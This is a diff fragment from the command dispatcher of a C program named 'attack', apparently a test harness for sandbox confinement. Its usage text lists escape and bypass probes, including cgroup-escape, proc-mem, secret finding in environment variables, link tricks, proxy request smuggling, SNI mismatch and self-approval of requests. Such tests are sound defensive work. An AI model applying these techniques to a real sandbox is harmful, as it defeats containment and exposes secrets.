+		return link_read(x, y, !strcmp(a, "hardlink"));
+	if (!strcmp(a, "sni-mismatch") && argc == 6)
+		return sni_mismatch(atoi(x), y, argv[4], argv[5]);
+	if (!strcmp(a, "smuggle") && argc == 5)
+		return smuggle(atoi(x), y, argv[4]);
+	if (!strcmp(a, "approve") && (argc == 3 || argc == 4))
+		return approve_self(x, argc == 4 ? argv[3] : NULL);
 	fprintf(stderr, "usage: attack serve DIR | victim UID | su UID PROG [ARGS] |\n  connect|sendto HOST PORT | socket FAMILY TYPE [PROTO] |\n"
 		"  unix PATH | unix-abstract NAME | ptrace PID | kill PID | read FILE |\n"
 		"  write FILE | bpf PINNED | mount DIR | userns | module | tiocsti [TTY] |\n"
 		"  mmap-exec FILE | exec FILE [ARGS] | argv-race GIT |\n"
-		"  connect-race ALLOWED FORBIDDEN [N] | open-race A B [N] | sleep S\n");
+		"  connect-race ALLOWED FORBIDDEN [N] | open-race A B [N] | sleep S |\n"
+		"  iouring-read FILE | iouring-connect HOST PORT | memfd-exec |\n"
+		"  execveat-empty FILE | daemon PIDFILE SECONDS | cgroup-escape |\n"
+		"  find-secret NEEDLE|env:VAR | proc-mem PID | symlink|hardlink TARGET LINK |\n"
+		"  sni-mismatch PROXYPORT HOST PORT SNI | smuggle PROXYPORT HOST PORT |\n"
+		"  approve SOCKET [ID]\n");
 	return 2;
 }
